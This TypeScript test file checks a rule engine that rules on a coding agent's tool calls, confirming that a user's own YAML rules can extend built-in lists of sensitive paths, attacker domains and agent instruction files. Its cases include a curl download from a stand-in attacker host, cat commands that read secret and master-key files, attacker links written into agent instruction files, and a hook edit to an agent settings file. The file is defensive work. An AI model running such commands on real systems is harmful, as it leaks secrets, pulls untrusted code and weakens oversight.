import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { root } from "../../build/paths.ts";
import { judgeEvent } from "../../src/judge/judge.ts";
import { testedEvent } from "../../src/judge/tested-call.ts";
import { compileRules } from "../../src/rules/compile.ts";
import { loadRules } from "../../src/rules/load.ts";

// A file of a person extends the lists and macros of the built-in rules by name, and every channel follows.

const folder = join(root, "rules");
const builtin = readdirSync(folder)
  .filter((name) => name.endsWith(".yaml") && !name.endsWith(".test.yaml"))
  .sort()
  .map((name) => ({ file: name, text: readFileSync(join(folder, name), "utf8") }));

function verdict(own: string, call: Parameters<typeof testedEvent>[0]): string {
  const { ruleset, problems } = loadRules([...builtin, { file: "mine.yaml", text: own }]);
  if (ruleset === undefined) throw new Error(problems.map(({ message }) => message).join("; "));
  const event = testedEvent(call);
  if ("failure" in event) throw new Error(event.failure);
  return judgeEvent(event, compileRules(ruleset), 1n).verdict.decision;
}

const appended = (list: string, item: string) =>
  `- list: ${list}\n  items: [${item}]\n  override: { items: append }\n`;
const replaced = (macro: string, condition: string) =>
  `- macro: ${macro}\n  condition: ${condition}\n  override: { condition: replace }\n`;

const read = (file_path: string) => ({ tool: { name: "Read", input: { file_path } } });
const write = (file_path: string, content = "x") => ({
  tool: { name: "Write", input: { file_path, content } },
});
const bash = (command: string) => ({ command });

test.for([
  [appended("sensitive_paths", "/srv/secrets"), read("/srv/secrets/a"), "allow", "deny"],
  [appended("sensitive_paths", "/srv/secrets"), bash("cat /srv/secrets/a"), "allow", "deny"],
  [appended("sensitive_paths", "/srv/secrets"), bash("echo x > /srv/secrets/a"), "ask", "deny"],
  [appended("sensitive_file_names", "master.key"), read("config/master.key"), "allow", "deny"],
  [appended("sensitive_file_names", "master.key"), bash("cat config/master.key"), "allow", "deny"],
  [appended("ioc_domains", "evil.example"), bash("curl -O https://a.evil.example/x"), "allow", "deny"],
  [
    appended("ioc_domains", "evil.example"),
    write("AGENTS.md", "see https://evil.example/x"),
    "allow",
    "deny",
  ],
  [appended("shell_startup_files", ".myrc"), write("~/.myrc"), "ask", "ask"],
  [
    appended("agent_instruction_files", "TEAM.md"),
    write("TEAM.md", "see https://webhook.site/x"),
    "allow",
    "deny",
  ],
  [
    appended("registry_config_files", "corp.conf"),
    write("corp.conf", "registry=https://a.example/"),
    "allow",
    "ask",
  ],
  [appended("env_file_names", "vars"), write("vars", "OPENAI_API_KEY=sk-proj-EXAMPLE"), "allow", "ask"],
  [
    replaced("is_outside_cwd", "(not tool.real_file_path startswith /home/dev/work/)"),
    write("../other/a.ts"),
    "ask",
    "allow",
  ],
  [
    replaced("is_write_tool", "(tool.name = Never)"),
    write(".claude/settings.json", '{"hooks":{"Stop":[{}]}}'),
    "deny",
    "allow",
  ],
  [replaced("is_sensitive_path", "(tool.name = Never)"), read("/etc/nginx.conf"), "deny", "allow"],
] as const)("%s makes of %j, %s before, %s", ([own, call, before, after]) => {
  expect(verdict("", call)).toBe(before);
  expect(verdict(own, call)).toBe(after);
});

test("a rule of the original's kind loads and means the same", () => {
  const own = `
- rule: Mine
  desc: d
  condition: is_write_tool and is_outside_cwd and not is_sensitive_path and not is_claude_data_path
  output: "%tool.real_file_path"
  priority: CRITICAL
  source: coding_agent
  tags: [coding_agent_deny]
`;
  expect(verdict(own, write("../x"))).toBe("deny");
  expect(verdict(own, write("x"))).toBe("allow");
});
